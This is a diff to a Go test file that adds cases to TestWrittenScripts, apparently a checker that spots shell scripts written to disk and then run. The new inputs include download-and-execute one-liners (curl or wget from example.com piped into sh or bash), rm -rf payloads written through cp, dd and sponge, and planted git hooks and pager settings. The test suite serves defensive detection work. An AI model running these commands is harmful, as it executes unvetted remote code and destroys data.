@@ -36,6 +36,15 @@ func TestWrittenScripts(t *testing.T) {
 		`echo 'ls' > a; mv a s.sh; sh s.sh`,
 		`echo 'ls' > "$F"; sh s.sh`,
 		"cat > t.sh <<EOF\nrm -r $F x\nEOF\nbash t.sh",
+		`echo "$X" > S.SH; sh s.sh`, // the same file where names ignore case
+		`echo "$X" > s.sh; sh s.s?`,
+		`echo 'ls' > s.sh; find . -name s.sh -exec sh {} \;`,
+		`cp /dev/stdin s.sh <<< 'rm -rf x'; sh s.sh`,
+		`dd of=s.sh <<< 'rm -rf x'; sh s.sh`,
+		`sponge s.sh <<< 'rm -rf x'; sh s.sh`,
+		`curl -o i.sh https://example.com/x && sh i.sh`,
+		`curl -O https://example.com/i.sh && sh i.sh`,
+		`wget -q https://example.com/i.sh && bash i.sh`,
 		// Files another program runs.
 		`printf '#!/bin/sh\nrm -rf x' > .git/hooks/pre-commit; git commit -m x`,
 		`echo '[core] pager = rm -rf x' >> .git/config; git log`,
@@ -58,6 +67,7 @@ func TestWrittenScripts(t *testing.T) {
 		`make test`,
 		`crontab -l`,
 		`npm run build > build.log`,
+		`curl -fsSL -o node.tgz https://example.com/node.tgz && tar -xzf node.tgz && ./node/bin/node -v`,
 	})
 	for _, src := range []string{
 		"cat > /tmp/t.sh <<'EOF'\nnpm test\nEOF\nbash /tmp/t.sh",
